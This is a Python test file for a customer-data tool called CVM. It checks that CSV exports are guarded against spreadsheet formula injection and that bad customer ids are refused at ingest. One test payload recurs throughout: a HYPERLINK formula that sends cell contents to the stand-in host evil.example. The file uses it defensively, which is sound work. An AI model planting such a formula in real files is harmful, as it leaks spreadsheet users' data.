"""Every CSV CVM writes is safe to open in a spreadsheet; customer ids are checked at ingest."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import polars as pl
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from cvm.cli.main import app
from cvm.config.settings import ConfigError, load_settings
from cvm.contracts.csvsafe import restore_text, safe_arrow, safe_cell, safe_pandas, safe_polars
from cvm.contracts.ids import check_customer_id
from cvm.delivery.exports import CsvExport
from cvm.delivery.items import Outbound
from cvm.demo.writer import write_table
from cvm.engine import Engine
from cvm.ingest.readers import read_source

SRC = Path(__file__).resolve().parents[2] / "src"
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TRIGGERS = tuple("=+-@\t\r")


@pytest.mark.parametrize(
    ("value", "written"),
    [(ATTACK, "'" + ATTACK), ("+32 471 12 34 56", "'+32 471 12 34 56"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("-20.5", "-20.5"), ("+1e3", "+1e3"), (-20.5, -20.5),
     ("C000123", "C000123"), ("'quoted", "'quoted"), ("", ""), (None, None)],
)  # fmt: skip
def test_rule(value: object, written: object) -> None:
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert restore_text(str(written)) == value


_TEXT = st.text(alphabet="=+-@\t\r'a1.e ", max_size=6)


@settings(max_examples=300, deadline=None)
@given(values=st.lists(_TEXT, min_size=1, max_size=10))
def test_rule_is_safe_invertible_and_the_same_for_every_frame_library(values: list[str]) -> None:
    expected = [safe_cell(v) for v in values]
    for v, out in zip(values, expected, strict=True):
        assert restore_text(out) == v
        assert not out.startswith(TRIGGERS) or re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", out)
    assert safe_polars(pl.DataFrame({"c": values})).get_column("c").to_list() == expected
    assert safe_arrow(pa.table({"c": values})).column("c").to_pylist() == expected
    assert safe_pandas(pd.DataFrame({"c": values}))["c"].tolist() == expected


def test_numbers_stay_numbers() -> None:
    frame = pl.DataFrame({"amount": [-20.5, 3.0], "id": ["-x", "C1"]})
    out = safe_polars(frame)
    assert out.get_column("amount").to_list() == [-20.5, 3.0]
    assert out.get_column("id").to_list() == ["'-x", "C1"]


def test_action_export_neutralises_ids(tmp_path: Path) -> None:
    item = Outbound(7, 1, "key-1", "csv", {"customer_id": ATTACK, "event_id": "@evt", "expected_value": -20.5})
    export = CsvExport(tmp_path, "run1")
    assert export.deliver([item])[0].ok
    with open(export.path, newline="", encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    assert row["customer_id"] == "'" + ATTACK
    assert row["event_id"] == "'@evt"
    assert row["expected_value"] == "-20.5"


def test_demo_csv_round_trips_through_ingest_reading(tmp_path: Path) -> None:
    """A phone '+32 …' is written quote-prefixed and read back unchanged (CVM's reader strips the guard)."""
    table = pa.table({"phone": ["+32 471 12 34 56", "'=x", None], "amount": [-20.5, 1.0, 2.0]})
    path = write_table(table, tmp_path / "contacts", "csv")
    assert "'+32 471 12 34 56" in path.read_text(encoding="utf-8")
    raw = read_source(path)
    assert raw.frame.get_column("phone").to_list() == ["+32 471 12 34 56", "'=x", None]
    assert raw.frame.get_column("amount").to_list() == ["-20.5", "1", "2"]


# -- customer ids ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value", ["C000123", "BE-0012/34", "ACME.01", "anon-3f9a0c2e1b7d4a6f", "jane@example.com", "42", "A_b:c#1"]
)
def test_realistic_ids_pass(value: str) -> None:
    assert check_customer_id(value) is None


@pytest.mark.parametrize(
    ("value", "reason"),
    [(ATTACK, "does not match"), ("+32", "does not match"), ("-1", "does not match"), ("@me", "does not match"),
     ("   ", "empty"), ("", "empty"), ("C1\x00", "control character"), ("C\n1", "control character"),
     ("C" * 129, "longer than 128"), ("C 1", "does not match")],
)  # fmt: skip
def test_bad_ids_are_refused(value: str, reason: str) -> None:
    got = check_customer_id(value)
    assert got is not None
    assert reason in got


def test_a_long_id_cannot_make_the_pattern_backtrack() -> None:
    assert check_customer_id("a" * 10_000 + "!", r"(a+)+$") == "customer id longer than 128 characters"


def test_bad_pattern_named_at_config_load(tmp_path: Path) -> None:
    (tmp_path / "cvm.yaml").write_text("ingest:\n  customer_id_pattern: '[A-Z'\n", encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_settings(tmp_path)
    assert "ingest.customer_id_pattern: Value error, not a valid regular expression" in str(info.value)


def test_ingest_quarantines_bad_ids_and_writes_safe_rejects(tmp_path: Path) -> None:
    """`cvm ingest --rejects-out`: the bad id is refused with file/line/field/reason and written neutralised."""
    ws = tmp_path / "ws"
    Engine.init(ws).close()
    src = tmp_path / "customers.csv"
    rows = ["customer_id,name,acquired_at,kind", "C1,Ann,2024-01-05,B2C", "BE-0012/34,Bo,2024-01-05,B2B"]
    rows += [f'"{ATTACK.replace(chr(34), chr(34) * 2)}",Eve,2024-01-05,B2C', "-7,Dan,2024-01-05,B2C"]
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    result = CliRunner().invoke(
        app,
        ["ingest", "customers", str(src), "--rejects-out", str(rejects), "--max-reject-ratio", "1", "-w", str(ws)],
    )
    assert result.exit_code == 0, result.output
    with open(rejects, newline="", encoding="utf-8") as fh:
        got = list(csv.DictReader(fh))
    assert [(r["line"], r["field"]) for r in got] == [("4", "customer_id"), ("5", "customer_id")]
    assert got[0]["value"] == "'" + ATTACK
    assert got[1]["value"] == "-7"  # a plain number is never a formula
    assert all("does not match the default pattern" in r["reason"] for r in got)
    assert all(r["source"] == str(src) for r in got)
    eng = Engine.open(ws)
    try:
        rows, total = eng.customers.customers(limit=10)
    finally:
        eng.close()
    assert total == 2
    assert sorted(r["customer_id"] for r in rows) == ["BE-0012/34", "C1"]


# -- every CSV writer goes through the rule ----------------------------------------------------------
_WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.write_csv\(|\.to_csv\(|pacsv\.write_csv\(")
_ALLOWED = {
    ("cvm/ingest/batch.py", "h.update(frame.write_csv().encode())"): "a content hash, not a file",
}


def test_no_csv_writer_bypasses_the_rule() -> None:
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        rel = path.relative_to(SRC).as_posix()
        if rel == "cvm/contracts/csvsafe.py":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            code = line.strip()
            if not _WRITERS.search(code) or code.startswith(("def ", "#")) or (rel, code) in _ALLOWED:
                continue
            if not re.search(r"\bsafe_(polars|pandas|arrow|row|cell)\(", code):
                offenders.append(f"{rel}:{number}: {code}")
    assert offenders == [], "CSV writers must go through cvm.contracts.csvsafe:\n" + "\n".join(offenders)


def test_rows_from_a_frame_are_checked_like_files(tmp_path: Path) -> None:
    """The API's `POST /tables/{table}/rows` and SQL ingest hand a frame to the same validation."""
    engine = Engine.init(tmp_path / "ws")
    try:
        frame = pl.DataFrame(
            {"customer_id": ["C1", "@evil", "x" * 200], "acquired_at": ["2024-01-05"] * 3, "kind": ["B2C"] * 3}
        )
        result = engine.ingest("customers", frame, max_reject_ratio=1.0)
    finally:
        engine.close()
    assert (result.accepted, result.rejected) == (1, 2)
    assert result.rejects is not None
    got = {(r["line"], r["field"], r["reason"]) for r in result.rejects.iter_rows(named=True)}
    pattern = "customer id does not match the default pattern '[A-Za-z0-9_][A-Za-z0-9_.:/@+#=~-]*'"
    assert got == {(2, "customer_id", pattern), (3, "customer_id", "customer id longer than 128 characters")}
